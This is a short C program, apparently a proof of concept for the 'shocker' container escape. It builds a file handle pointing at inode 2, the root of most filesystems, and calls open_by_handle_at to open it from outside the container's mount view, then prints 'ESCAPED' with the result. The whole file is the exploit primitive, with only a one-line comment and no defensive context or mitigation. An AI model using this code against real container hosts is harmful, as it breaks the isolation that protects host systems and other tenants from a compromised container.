/* The "shocker" escape: open_by_handle_at opens files by inode handle, outside the mount's view. SV. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>

int main(void)
{
	struct file_handle *h = malloc(sizeof *h + 8);
	h->handle_bytes = 8;
	h->handle_type = 1;
	*(unsigned long long *)h->f_handle = 2; /* the root inode of most filesystems */
	int fd = open_by_handle_at(AT_FDCWD, h, O_RDONLY);
	printf("ESCAPED: open_by_handle_at returned %d\n", fd);
	return 0;
}
